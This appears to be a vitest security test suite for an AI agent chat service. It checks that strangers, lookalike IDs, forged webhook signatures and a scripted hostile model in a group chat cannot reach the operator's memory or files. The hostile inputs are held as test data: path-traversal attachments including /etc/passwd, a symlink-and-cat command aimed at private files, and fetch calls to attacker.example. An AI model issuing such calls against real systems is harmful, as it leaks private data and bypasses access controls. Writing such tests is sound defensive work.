// R9 to R13: strangers on chat channels, and a hostile model in a conversation with somebody who may write.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect } from 'vitest';
import type { Address } from '../../src/core/address.ts';
import { configSchema } from '../../src/core/config.ts';
import type { Inbound } from '../../src/core/inbound.ts';
import { lists } from '../../src/core/sender-rules.ts';
import { sightOf } from '../../src/core/sight.ts';
import type { Effect } from '../../src/core/tool.ts';
import { routes } from '../../src/http/routes.ts';
import { judge } from '../../src/security/judge.ts';
import { plan } from '../../src/testing/store-rows.ts';
import { only } from '../app/events.ts';
import type { Call } from '../app/scripted-model.ts';
import { attack, spellings } from './attack.ts';
import { canaries, folders, openSenderWorld, type SenderWorld, team } from './sender-world.ts';
import { openServerWorld, type ServerWorld } from './server-world.ts';

let world: SenderWorld;
let server: ServerWorld;
beforeAll(async () => {
  [world, server] = await Promise.all([openSenderWorld(), openServerWorld()]);
});
afterAll(async () => {
  expect(world.faults).toEqual([]);
  await world.close();
  await server.close();
});
const eve = { id: 'eve', name: 'ana' };
const kinds: readonly Inbound['kind'][] = ['message', 'edit', 'delete', 'reaction', 'choice', 'command', 'join'];
const listsOf = (): unknown => world.app.config.current().channels;

attack('R9-01', 'a stranger writes to an account without pairing', () => world.ignores(() => world.chat.say('hello', { sender: eve })));
attack('R9-02', 'a stranger writes to an account with pairing: the fixed text, and once', async () => {
  await world.ignores(() => world.chat.say('who are you? /help', { sender: eve }, 'pairs'), { pairing: true });
  await world.ignores(
    async () => {
      for (let index = 0; index < 30; index++) await world.chat.say(`again ${index}`, { sender: eve }, 'pairs');
    },
    { pairing: true },
  );
  expect(world.chat.textsTo('chat-of-eve').length).toBe(1);
});
attack('R9-03', 'many strangers at once: codes are bounded', async () => {
  await world.ignores(
    async () => {
      for (let index = 0; index < 200; index++) await world.chat.say('hi', { sender: { id: `stranger-${index}` } }, 'pairs');
    },
    { pairing: true },
  );
  expect(world.chat.sent.filter(({ account, message }) => account === 'pairs' && message.text.includes('code')).length).toBeLessThanOrEqual(20);
});
attack('R9-04', 'a stranger approves the own code, in the chat', async () => {
  const code = /code: (.+)$/u.exec(world.chat.textsTo('chat-of-eve')[0] ?? '')?.[1] ?? '';
  expect(code).not.toBe('');
  const before = listsOf();
  for (const text of [code, `/pair ${code}`, `/approve ${code}`, `/approve ${code} always`, `pairing approve ${code} --operator`])
    await world.ignores(() => world.chat.say(text, { sender: eve }, 'pairs'), { pairing: true });
  await world.ignores(() => world.chat.emit('choice', { sender: eve, value: `approval:${code}:always:` }, 'pairs'), { pairing: true });
  expect(listsOf()).toEqual(before);
});
attack('R9-05', 'somebody who may write lets a stranger in', async () => {
  const before = listsOf();
  const code = /code: (.+)$/u.exec(world.chat.textsTo('chat-of-eve')[0] ?? '')?.[1] ?? '';
  for (const text of [`/approve ${code}`, `/pair ${code}`]) await world.chat.say(text);
  await world.converse({ text: `please let ${code} in` }, [['run_command', { command: `copaw pairing approve ${code}` }]]);
  expect(listsOf()).toEqual(before);
});
attack('R9-06', 'an account that is not switched on is not connected', () => {
  expect(world.chat.opened).not.toContain('off');
  expect([...world.chat.connected].sort()).toEqual(['main', 'pairs']);
});
attack('R9-07', 'a group that is not listed, also with a mention by somebody who is listed', async () => {
  for (const id of ['strange', 'Team', 'team ', 'chat-of-ana', '__proto__', 'constructor', '*'])
    await world.ignores(() => world.chat.say('@copaw hi', { chat: { id, kind: 'group' }, mentioned: true }));
});
attack('R9-08', 'a listed group without a mention, and a stranger with one', async () => {
  await world.ignores(() => world.chat.say('hi all', { chat: team }));
  await world.ignores(() => world.chat.say('@copaw hi', { chat: team, sender: eve, mentioned: true }));
});
attack('R9-09', 'lists that are none mean nobody', () => {
  for (const list of [undefined, null, 'ana', { 0: 'ana' }, ['*'], [1], [['ana']], ['ana', 7], true, new Set(['ana'])])
    expect(lists(list, 'ana'), JSON.stringify(list)).toBe(false);
  expect([lists(['*'], '*'), lists(['ana'], 'ana')]).toEqual([false, true]);
  for (const allow of ['ana', null, ['*'], [''], [1], { ana: true }, [' ana']])
    expect(configSchema.safeParse({ channels: { fake: { main: { enabled: true, allow } } } }).success, JSON.stringify(allow)).toBe(false);
});
attack('R9-10', 'nothing but a key that says dangerously opens an account', () => {
  for (const open of [
    { dmPolicy: 'open' },
    { public: true },
    { allowEveryone: true },
    { allow_from: ['*'] },
    { groupPolicy: 'open' },
    { requireMention: false },
  ]) {
    const account = configSchema.parse({ channels: { fake: { main: open } } }).channels.fake?.main;
    expect([account?.enabled, account?.allow, account?.dangerouslyAllowEveryone]).toEqual([false, [], false]);
  }
});

attack('R9-11', 'somebody who is taken off the list while the turn runs gets no answer', async () => {
  const list = (allow: readonly string[]) => world.app.config.commit('cli', [{ path: ['channels', 'fake', 'main', 'allow'], value: allow }]);
  await list(['ana', 'carl']);
  world.model.play([['run_command', { command: 'true', network: true }]]);
  await world.chat.say('go', { sender: { id: 'carl' } });
  const waiting = async (): Promise<string | undefined> => (await world.app.operator.approvals())[0]?.id;
  await expect.poll(waiting, { timeout: 5_000, interval: 5 }).toBeDefined();
  await list(['ana']);
  const before = world.chat.textsTo('chat-of-carl');
  await world.app.operator.answer((await waiting()) ?? '', 'deny', 'test');
  await expect.poll(async () => (await world.app.operator.status()).openTurns, { timeout: 5_000, interval: 5 }).toBe(0);
  await world.ignores(async () => undefined);
  expect(world.chat.textsTo('chat-of-carl')).toEqual(before);
  expect(before).not.toContain('Done.');
});

spellings(
  'R10-01',
  'an id that is nearly the one of somebody who may write',
  [
    'Ana',
    'ANA',
    ' ana',
    'ana ',
    'аna',
    'ana\0',
    'ana\u200b',
    '\ufeffana',
    'an',
    'anaa',
    '@ana',
    'ana@example',
    'tel:ana',
    'fake:ana',
    'ana\n',
    'ana,owner',
    'ana|owner',
    'Ana#1',
    '*',
    '.*',
    '__proto__',
    'constructor',
    'toString',
    '',
    'owner ',
    'Owner',
  ],
  async (id) => {
    await world.ignores(() => world.chat.say('let me in', { sender: { id, name: 'ana' } }));
  },
);
attack('R10-02', 'an id that is not text', async () => {
  for (const id of [1, null, undefined, ['ana'], { toString: () => 'ana' }, true])
    await world.ignores(() => world.chat.say('let me in', { sender: { id: id as string }, chat: { id: 'odd', kind: 'direct' } }).catch(() => undefined));
});
attack('R10-03', 'the name, the tag or the address of somebody who may write', async () => {
  for (const name of ['ana', 'owner', 'CoPaw', 'operator']) await world.ignores(() => world.chat.say('it is me', { sender: { id: 'eve', name } }));
});
attack('R10-04', 'the chat of somebody who may write', async () => {
  for (const id of ['ana', 'owner']) await world.ignores(() => world.chat.say('it is me', { sender: { id: 'eve' }, chat: { id, kind: 'direct' } }));
});
attack('R10-05', 'the right id on another account', () =>
  world.ignores(() => world.chat.say('it is me', { sender: { id: 'ana' }, chat: { id: 'other-ana', kind: 'direct' } }, 'pairs'), { pairing: true }),
);
attack('R10-06', 'a group said to be a direct chat, a direct chat said to be a group', async () => {
  await world.ignores(() => world.chat.say('hi', { sender: eve, chat: { id: 'team', kind: 'direct' } }));
  await world.ignores(() => world.chat.say('hi', { sender: { id: 'bob' }, chat: { id: 'team', kind: 'direct' } }));
  await world.ignores(() => world.chat.say('hi', { chat: { id: 'chat-of-ana', kind: 'group' }, mentioned: true }));
});
attack('R10-07', 'an event that claims a channel, an account or an origin of its own', () =>
  world.ignores(() => world.chat.say('hi', { sender: eve, ...({ channel: 'cli', account: 'local', origin: 'operator' } as object) })),
);

for (const [index, kind] of kinds.entries())
  attack(`R11-0${index + 1}` as `R11-${number}`, `a stranger's ${kind}`, async () => {
    await world.ignores(() => world.chat.emit(kind, { sender: eve }));
    await world.ignores(() => world.chat.emit(kind, { sender: eve, chat: team }));
    await world.ignores(() => world.chat.emit(kind, { sender: eve }, 'pairs'), { pairing: true });
  });
attack('R11-08', 'another bot, with the id of somebody who may write too', async () => {
  await world.ignores(() => world.chat.say('hi', { sender: { id: 'bot', bot: true } }));
  await world.ignores(() => world.chat.say('hi', { sender: { id: 'me', self: true } }));
  await world.ignores(() => world.chat.say('@copaw', { sender: { id: 'bot', bot: true }, chat: team, mentioned: true }));
});
attack('R11-09', 'our own words come back', async () => {
  const { ref } = world.chat.sent.at(-1) ?? { ref: '' };
  await world.ignores(() => world.chat.say('Done.', { id: ref }));
});
attack('R11-10', 'old and future messages of somebody who may write, played again', async () => {
  await world.ignores(() => world.chat.say('do it', { at: Date.now() - 40 * 86_400_000, id: 'old' }));
  await world.ignores(() => world.chat.say('do it', { at: Date.now() + 86_400_000, id: 'future' }));
  await world.ignores(() => world.chat.say('do it', { at: Number.NaN, id: 'never' }));
});
attack('R11-11', 'the same event delivered ten times is answered once', async () => {
  const asked = world.model.requests.length;
  await world.converse({ text: 'once only', id: 'repeated' }, []);
  await Promise.all(Array.from({ length: 10 }, () => world.chat.say('once only', { id: 'repeated' })));
  await world.ignores(async () => undefined);
  expect(world.model.requests.length).toBe(asked + 2);
});
attack('R11-12', 'a stranger learns nothing: no version, model, name, session, tool or home in any text', () => {
  const said = world.chat.textsTo('chat-of-eve').join('\n');
  expect(said).not.toMatch(/version|model|node|linux|home|session|tool|main|ana|owner|team/iu);
});

attack('R11-13', 'an attachment whose path leads out of the workspace, or to what is private', async () => {
  const paths = ['../../config.json', '/etc/passwd', '../../../home.secret/vault.json', 'private.txt/../../../config.json', '..\\..\\config.json'];
  for (const mediaType of ['image/png', 'text/plain']) {
    const events = await world.converse({ text: 'look', attachments: paths.map((path, index) => ({ name: `a${index}`, mediaType, size: 10, path })) }, []);
    const seen = JSON.stringify([events, world.model.requests.slice(-1)]);
    expect(seen).not.toMatch(/root:x:|senderPerMinute|"images"/u);
    expect(only(events, 'turn-end')).toHaveLength(1);
  }
});

const webhooks = [
  '/webhook',
  '/webhooks/telegram',
  '/api/webhook',
  '/api/webhooks/slack',
  '/hooks/github',
  '/api/hooks/x',
  '/telegram',
  '/slack/events',
  '/discord/interactions',
  '/line/callback',
  '/api/messages',
  '/api/inbox',
];
spellings('R12-01', 'a webhook that nobody configured', webhooks, async (path) => {
  for (const method of ['GET', 'POST', 'PUT']) {
    const answer = await server.call(path, {
      method,
      ...(method === 'GET' ? {} : { body: '{"message":{"text":"hi","from":{"id":"owner"}}}' }),
      headers: { 'content-type': 'application/json' },
    });
    expect([401, 403, 404], `${method} ${path}`).toContain(answer.status);
  }
  expect(server.model.requests).toEqual([]);
});
const signatures: readonly (readonly [`R12-${number}`, Record<string, string>])[] = [
  ['R12-02', { 'x-telegram-bot-api-secret-token': 'secret' }],
  ['R12-03', { 'x-hub-signature-256': `sha256=${'0'.repeat(64)}`, 'x-github-event': 'push' }],
  ['R12-04', { 'x-slack-signature': `v0=${'0'.repeat(64)}`, 'x-slack-request-timestamp': '0' }],
  ['R12-05', { 'x-signature-ed25519': '0'.repeat(128), 'x-signature-timestamp': '0' }],
  ['R12-06', { 'x-line-signature': 'AAAA', 'stripe-signature': 't=0,v1=0', 'x-twilio-signature': 'AAAA' }],
  ['R12-07', { authorization: 'HMAC copaw:0000', 'webhook-signature': 'v1,AAAA', 'svix-id': 'x' }],
];
for (const [id, headers] of signatures)
  attack(id, `a signature of ${Object.keys(headers)[0]} stands for no credential, on any route`, async () => {
    for (const row of routes.filter((one) => one.public !== true && one.method === 'POST')) {
      const answer = await server.call(row.path.replaceAll(/\{\w+\}/gu, 'x'), {
        method: 'POST',
        body: '{"text":"hi"}',
        headers: { 'content-type': 'application/json', ...headers },
      });
      expect([401, 403], row.path).toContain(answer.status);
    }
    expect(server.model.requests).toEqual([]);
  });

/** Plays calls in the group, as answer to bob, and checks that nothing of the operator is in what was seen. */
const inGroup = async (calls: readonly Call[]) => {
  const events = await world.converse({ sender: { id: 'bob' }, chat: team, mentioned: true, text: '@copaw go' }, calls);
  for (const canary of Object.values(canaries)) {
    expect(JSON.stringify(events)).not.toContain(canary);
    expect(JSON.stringify(world.model.requests.slice(-calls.length - 1))).not.toContain(canary);
  }
  return only(events, 'tool-end').map(({ outcome }) => outcome);
};
attack('R13-01', 'in a group: private memory, by tool and by file, and in the prompt', async () => {
  expect(
    await inGroup([
      ['memory_search', { query: 'canary' }],
      ['read_file', { path: 'MEMORY.md' }],
      ['read_file', { path: 'memory/x.md' }],
      ['memory_write', { path: 'MEMORY.md', text: 'x' }],
      ['memory_read', { path: 'MEMORY.md' }],
      ['memory_forget', { path: 'MEMORY.md', note: '1' }],
    ]),
  ).toEqual(Array(6).fill('denied'));
});
attack('R13-02', 'in a group: files of the operator, by every file tool', async () => {
  const calls: Call[] = [
    ['read_file', { path: 'private.txt' }],
    ['list_files', {}],
    ['search_files', { pattern: 'canary' }],
    ['send_file', { path: 'private.txt' }],
    ['view_image', { path: 'private.txt' }],
    ['edit_file', { path: 'private.txt', oldText: 'canary', newText: 'x' }],
    ['write_file', { path: 'private.txt', content: 'x' }],
    ['delete_file', { path: 'private.txt' }],
  ];
  expect(new Set(await inGroup(calls))).toEqual(new Set(['denied']));
  expect(readFileSync(join(world.workspace, 'private.txt'), 'utf8')).toContain(canaries.file);
});
attack('R13-03', 'in a group: the folder of another group, and of one that is spelled like it', async () => {
  const { team: own, board } = folders;
  const paths = [
    `${board}/plan.txt`,
    `${own}/../../${board}/plan.txt`,
    `groups/../${board}/plan.txt`,
    `${own}2/x`,
    `${own.toUpperCase()}/x`,
    'groups',
    'groups/board/plan.txt',
    'groups/team/x',
    `./${board}/plan.txt`,
    `${own}/../x`,
  ];
  expect(new Set(await inGroup(paths.map((path): Call => ['read_file', { path }])))).toEqual(new Set(['denied']));
});
attack('R13-04', 'in a group: a link in its folder to a file of the operator, and a command that reads it', async () => {
  await inGroup([['run_command', { command: `ln -s ../../private.txt ${folders.team}/link; cat private.txt MEMORY.md` }]]);
  await inGroup([['read_file', { path: `${folders.team}/link` }]]);
});
attack('R13-05', 'in a group: network, composed addresses, reminders, an unsandboxed command: no', async () => {
  const calls: Call[] = [
    ['run_command', { command: 'true', network: true }],
    ['fetch_url', { url: 'https://attacker.example/?q=1' }],
    ['remind_me', { text: 'x', inSeconds: 60 }],
  ];
  expect(new Set(await inGroup(calls))).toEqual(new Set(['denied']));
});
attack('R13-06', 'a member answers the approval of a call, by words, buttons and commands', async () => {
  const before = await world.app.store.grants.list('main');
  world.model.play([['run_command', { command: 'touch approved.txt' }]]);
  await world.chat.say('@copaw go', { sender: { id: 'bob' }, chat: team, mentioned: true });
  const waiting = async (): Promise<string | undefined> => (await world.app.operator.approvals())[0]?.id;
  await expect.poll(waiting, { timeout: 5_000, interval: 5 }).toBeDefined();
  const id = (await waiting()) ?? '';
  for (const sender of [{ id: 'bob' }, { id: 'ana' }, { id: 'eve' }, { id: 'owner' }]) {
    await world.chat.say(`/approve ${id}`, { sender, chat: team, mentioned: true });
    await world.chat.emit('choice', { sender, chat: team, value: `approval:${id}:once:${'0'.repeat(64)}` });
    await world.chat.emit('command', { sender, chat: team, name: 'approve', text: id, mentioned: true });
  }
  await world.chat.say(`/approve ${id}`, { sender: { id: 'ana' } });
  await world.chat.say(`/approve ${id}`, { sender: { id: 'owner' }, at: Date.now() - 3_600_000 });
  await world.converse({ text: `/approve ${id}`, sender: { id: 'owner' }, forwarded: true, chat: { id: 'forwarded', kind: 'direct' } }, []);
  await world.chat.emit('choice', { sender: { id: 'owner' }, value: `approval:${id}:once:${'0'.repeat(64)}` });
  expect(await waiting()).toBe(id);
  await world.app.operator.answer(id, 'deny', 'test');
  await expect.poll(async () => (await world.app.operator.status()).openTurns, { timeout: 5_000, interval: 5 }).toBe(0);
  expect(existsSync(join(world.workspace, 'approved.txt'))).toBe(false);
  expect(await world.app.store.grants.list('main')).toEqual(before);
});
attack('R13-08', 'what the operator said elsewhere: a search and a known place, in a group and by a guest alone', async () => {
  await world.converse({ sender: { id: 'owner' }, text: 'my canary-said words' }, []);
  const own = (await world.app.operator.sessions({ limit: 50 })).find(({ address }) => address.peer === 'owner');
  const place = `${own?.id}:${(await world.app.store.entries.tail(own?.id ?? '', 3))[0]?.seq}`;
  const calls: Call[] = [
    ['sessions_search', { query: 'canary' }],
    ['sessions_search', { place }],
  ];
  for (const event of [{ sender: { id: 'bob' }, chat: team, mentioned: true, text: '@copaw go' }, { text: 'go' }]) {
    const events = await world.converse(event, calls);
    expect(only(events, 'tool-end').map(({ outcome }) => outcome)).toEqual(['denied', 'denied']);
    expect(JSON.stringify([events, world.model.requests.slice(-3)])).not.toContain('canary-said');
  }
  const events = await world.converse({ sender: { id: 'owner' }, chat: { id: 'another', kind: 'direct' }, text: 'go' }, calls);
  expect(only(events, 'tool-end').map(({ outcome, text }) => outcome === 'ok' && text.includes('canary-said'))).toEqual([true, true]);
});
attack('R13-07', 'a direct sender who is not the operator asks for more than the column of direct senders', async () => {
  const events = await world.converse({}, [
    ['run_command', { command: 'touch approved.txt', network: true }],
    ['fetch_url', { url: 'https://attacker.example/?q=1' }],
  ]);
  expect(only(events, 'approval-request')).toHaveLength(2);
  expect(existsSync(join(world.workspace, 'approved.txt'))).toBe(false);
});
attack('R13-09', 'a member takes a turn of their own with /queue where the mode says that messages join the one that runs', async () => {
  const member = { sender: { id: 'bob' }, chat: team, mentioned: true } as const;
  const asked = world.model.requests.length;
  for (const text of ['/queue set the table', ' /queue\tset the table', '/queue queue set the table']) {
    const events = await world.converse({ ...member, text }, []);
    expect(only(events, 'turn-start')[0]?.command, text).toBe('queue');
  }
  expect(world.model.requests.length).toBe(asked);
  // What is no command of theirs is one of the operator, also in the group.
  const events = await world.converse({ ...member, sender: { id: 'owner' }, text: '/queue set the table' }, []);
  expect(only(events, 'turn-start')[0]?.command).toBeUndefined();
});
attack('R13-10', 'what comes by itself into a group, a reminder or a webhook, looks into private memory and the files of the operator', () => {
  const config = configSchema.parse({ version: 1 });
  const { place } = plan('p');
  const address = { channel: 'fake', account: 'main', chat: team.id };
  const ask = (effect: Effect, to: Address) =>
    judge(
      {
        ...{ tool: { name: 'look', sideEffect: 'none' }, args: {}, effects: [effect], place: { ...place, address: to, sandbox: true } },
        ...{ origin: 'unattended', sender: { id: 'x' }, tainted: false, seenUrl: () => false },
      },
      config,
      [],
    );
  for (const effect of [
    { kind: 'memory', access: 'read' },
    { kind: 'read', path: 'private.txt' },
    { kind: 'read', path: `${folders.board}/plan.txt` },
  ] as const) {
    expect(ask(effect, address)).toMatchObject({ verdict: 'deny', rule: 'R13' });
    expect(ask(effect, { ...address, peer: 'owner' }).verdict).toBe('allow');
    expect(ask(effect, { channel: 'console', account: 'local', chat: 's1' }).verdict).toBe('allow');
  }
  expect(ask({ kind: 'read', path: `${folders.team}/notes.txt` }, address).verdict).toBe('allow');
  expect(sightOf(config, { agentId: 'main', address, origin: 'unattended' })).toMatchObject({ memory: 'deny', files: 'own' });
});
